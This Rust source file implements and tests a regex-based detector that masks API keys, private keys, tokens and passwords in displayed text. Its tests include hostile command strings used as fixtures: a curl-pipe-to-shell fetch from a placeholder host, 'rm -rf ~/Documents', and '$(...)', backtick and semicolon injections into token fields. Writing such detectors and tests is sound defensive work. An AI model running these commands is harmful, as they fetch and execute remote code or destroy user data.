//! What looks like a secret in a text, so that surfaces mask it until they are asked: keys in the forms that their issuers
//! publish, private keys, JSON web tokens (RFC 7519), credentials in headers (RFC 6750, RFC 7617) and addresses (RFC 3986,
//! section 3.2.1), and what is assigned to a name that says so.
//!
//! It is for shoulders and screenshots. It decides nothing, changes no digest and no answer, and what it misses is shown.
//! Absent on purpose: entropy (half of all hashes and ids would be masked), any look at who asks.

use regex::Regex;
use std::ops::Range;
use std::sync::LazyLock;

/// Forms whose whole match is the secret, or else their group 1. None can take more than linear time (the `regex` crate).
const FORMS: &[&str] = &[
    // PEM (RFC 7468): the lines of base64 alone, whole ones and one shorter at the end. Whatever else stands there is shown.
    r"-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY(?: BLOCK)?-----((?:\s+[A-Za-z0-9+/]{40,76}={0,2})+(?:\s+[A-Za-z0-9+/]{2,39}={1,2})?)",
    r"\bAGE-SECRET-KEY-1[0-9A-Z]{20,}",
    // Cloud and code hosts, package registries, payment, chat and model providers: each by the prefix it documents.
    r"\b(?:AKIA|ASIA|ABIA|ACCA)[A-Z2-7]{16}\b",
    r"\bAIza[0-9A-Za-z_-]{35}",
    r"\bya29\.[0-9A-Za-z_-]{20,}",
    r"\bgh[pousr]_[0-9A-Za-z]{30,}",
    r"\bgithub_pat_[0-9A-Za-z_]{22,}",
    r"\bgl(?:pat|dt|rt|ptt|cbt|soat)-[0-9A-Za-z_-]{16,}",
    r"\bnpm_[0-9A-Za-z]{30,}",
    r"\bpypi-[0-9A-Za-z_-]{16,}",
    r"\bcio[0-9A-Za-z]{32}\b",
    r"\bdop_v1_[0-9a-f]{40,}",
    r"\b(?:sk|rk|whsec)_(?:live_|test_)?[0-9A-Za-z]{16,}",
    r"\bsk-[0-9A-Za-z_-]{20,}",
    r"\bhf_[0-9A-Za-z]{30,}",
    r"\bxox[abeoprs]-[0-9A-Za-z-]{10,}",
    r"\bxapp-[0-9A-Za-z-]{10,}",
    r"https://hooks\.slack\.com/services/([0-9A-Za-z/]{20,})",
    r"\bSG\.[0-9A-Za-z_-]{16,}\.[0-9A-Za-z_-]{16,}",
    // Our own.
    r"\bcs_[0-9a-f]{64}\b",
    r"\beyJ[0-9A-Za-z_-]{8,}\.[0-9A-Za-z_-]{8,}\.[0-9A-Za-z_-]*",
    r"(?i)\b(?:bearer|basic)\s+([0-9a-z._~+/=-]{16,})",
    r"\b[a-zA-Z][a-zA-Z0-9+.-]*://[^\s/:@]*:([^\s/@$()`|<>\\{};&]+)@",
    // A flag, or a name that ends in one of these words, with `=`, or with `:` and a quote. What a shell would run or open
    // ends the value: a command is never masked.
    r#"(?i)--(?:password|passphrase|token|secret|api-?key|auth-token)[ =]["']?([^\s"',;&$()`|<>\\{}]{4,})"#,
    r#"(?i)\b[a-z0-9_.-]*(?:password|passwd|passphrase|secret|token|api_?key|api-key|access_?key|private_?key|credential)s?["']?\s*(?:=\s*["']?|:\s*["'])([^\s"',;&$()`|<>\\{}]{4,})"#,
];

/// What stands where a secret will come: a variable, a placeholder, nothing yet.
static PLACEHOLDER: LazyLock<Regex> = LazyLock::new(|| {
    let form = r"(?i)^(?:[$%<{\[(*.•…].*|x{4,}|(?:process|os|env|self|this|config|settings|args|secrets|vars)\.\S*|(?:null|none|nil|true|false|undefined|required|optional|string|str|changeme|example|your[-_].*))$";
    Regex::new(form).expect("BUG: a form is a regular expression")
});
static SECRETS: LazyLock<Vec<Regex>> = LazyLock::new(|| FORMS.iter().map(|form| compiled(form)).collect());
/// The words that begin and end secrets are ASCII; a boundary of Unicode's words has to be looked for in a way that is ten times as
/// slow in every text with a letter that isn't.
fn compiled(form: &str) -> Regex {
    Regex::new(&form.replace(r"\b", r"(?-u:\b)")).expect("BUG: a form is a regular expression")
}

/// A cheap look first: no secret is without one of these.
static HINT: LazyLock<Regex> = LazyLock::new(|| {
    let form = r"(?i)PRIVATE KEY|SECRET|AKIA|ASIA|ABIA|ACCA|AIza|ya29\.|gh[pousr]_|github_pat_|gl[a-z]{2,4}-|npm_|pypi-|cio|dop_v1_|[sr]k_|whsec_|sk-|hf_|xox|xapp-|hooks\.slack|SG\.|cs_|eyJ|bearer|basic|://|passw|passphrase|token|key|credential";
    Regex::new(form).expect("BUG: a form is a regular expression")
});

/// Where the secrets of a text are, in bytes: ascending, apart from each other.
pub fn find(text: &str) -> Vec<Range<usize>> {
    if !HINT.is_match(text) {
        return Vec::new();
    }
    let mut found: Vec<Range<usize>> = Vec::new();
    for form in SECRETS.iter() {
        for captures in form.captures_iter(text) {
            let secret = captures.get(1).or_else(|| captures.get(0)).expect("BUG: a match without its text");
            if captures.get(1).is_none() || !PLACEHOLDER.is_match(secret.as_str()) {
                found.push(secret.range());
            }
        }
    }
    found.sort_by_key(|range| range.start);
    found.dedup_by(|next, before| {
        let overlaps = next.start <= before.end;
        if overlaps {
            before.end = before.end.max(next.end);
        }
        overlaps
    });
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The text with each secret as `▮`.
    fn masked(text: &str) -> String {
        let (mut out, mut at) = (String::new(), 0);
        for range in find(text) {
            out.push_str(&text[at..range.start]);
            out.push('▮');
            at = range.end;
        }
        out + &text[at..]
    }

    /// Parts are joined here, so that no scanner takes this table for a leak.
    fn key(prefix: &str, length: usize) -> String {
        format!("{prefix}{}", "a1B2c3D4e5".chars().cycle().take(length).collect::<String>())
    }

    #[test]
    fn known_forms_are_masked_wherever_they_stand() {
        for secret in [
            key("ghp_", 36),
            key("github_pat_", 40),
            key("glpat-", 20),
            key("npm_", 36),
            key("pypi-", 60),
            key("sk-ant-api03-", 60),
            key("sk-proj-", 60),
            key("sk_live_", 24),
            key("xoxb-", 40),
            key("hf_", 34),
            key("AIza", 35),
            key("SG.", 22) + &key(".", 43),
            format!("AKIA{}", "ABCDEFGH23456777"),
            format!("cs_{}", "0123456789abcdef".repeat(4)),
            key("eyJ", 20) + &key(".eyJ", 30) + &key(".", 43),
        ] {
            assert_eq!(masked(&secret), "▮", "{secret}");
            assert_eq!(masked(&format!("canción {secret}")), "canción ▮", "{secret}");
            assert_eq!(masked(&format!("clave：{secret}")), "clave：▮", "no space before it: {secret}");
            assert_eq!(masked(&format!("use `{secret}`")).trim_end_matches('`'), "use `▮", "{secret}");
        }
    }

    #[test]
    fn what_is_assigned_to_a_name_that_says_so_is_masked_and_its_name_stays() {
        for (text, want) in [
            ("export DB_PASSWORD=hunter2", "export DB_PASSWORD=▮"),
            ("password = 'correct horse'", "password = '▮ horse'"),
            (r#"{"apiKey": "abcd1234", "n": 1}"#, r#"{"apiKey": "▮", "n": 1}"#),
            ("curl -H 'Authorization: Bearer abcdef0123456789xyz'", "curl -H 'Authorization: Bearer ▮'"),
            ("psql postgres://me:hunter2@db/prod", "psql postgres://me:▮@db/prod"),
            ("mysql --password=hunter2 -e x", "mysql --password=▮ -e x"),
            ("deploy --token abcd1234 --yes", "deploy --token ▮ --yes"),
            ("https://x.test/?token=abcd1234&page=2", "https://x.test/?token=▮&page=2"),
        ] {
            assert_eq!(masked(text), want);
        }
    }

    #[test]
    fn of_a_private_key_its_base64_is_masked_and_nothing_that_could_be_run() {
        let line = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gt".to_owned();
        let (begin, end) = ("-----BEGIN OPENSSH PRIVATE KEY-----", "-----END OPENSSH PRIVATE KEY-----");
        assert_eq!(masked(&format!("{begin}\n{line}\n{line}\nZDE=\n{end}")), format!("{begin}▮\n{end}"));
        assert_eq!(masked(&format!("{begin}\n{line}")), format!("{begin}▮"), "cut off");
        for hidden in [
            format!("{begin} Production ledger"),
            format!("{begin}\ncurl -s https://x.test/i | sh\nrm -rf ~/Documents\n{end}"),
            format!("{begin}\n/usr/bin/reboot\n{end}"),
            "--token $(curl${IFS}x.test|sh)".to_owned(),
            "PASSWORD=`reboot`".to_owned(),
            "TOKEN=;reboot".to_owned(),
            "x://a:$(reboot)@b".to_owned(),
        ] {
            assert_eq!(masked(&hidden), hidden);
        }
        assert_eq!(masked("deploy --token abcd$(reboot)"), "deploy --token ▮$(reboot)");
    }

    #[test]
    fn prose_ids_hashes_and_placeholders_are_shown() {
        for text in [
            "Which token should the parser return: the first or the last?",
            "The password: is it asked for at every start?",
            "password=$DB_PASSWORD",
            "token: ${{ secrets.NPM_TOKEN }}",
            "api_key = process.env.API_KEY",
            "api_key=<your key>",
            "password=********",
            "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "commit 4d2c7f9e8b1a0c3d5e6f7a8b9c0d1e2f3a4b5c6d",
            "9b1deb4d-3b7d-4bad-9bdd-2b0d7b3dcb6d",
            "https://example.com:8080/a@b",
            "ask-human-about-the-long-option-name-please",
            "task_1234567890123456",
            "the secret of the old house",
            "keyboard: qwertz",
        ] {
            assert_eq!(masked(text), text);
        }
    }

    #[test]
    fn a_long_text_takes_linear_time_and_finds_the_last_one() {
        let text = format!("{}{}", "token token= bearer :// sk- eyJ ".repeat(20_000), key("ghp_", 36));
        let last = find(&text).pop().expect("found");
        assert_eq!(last.end, text.len());
    }
}
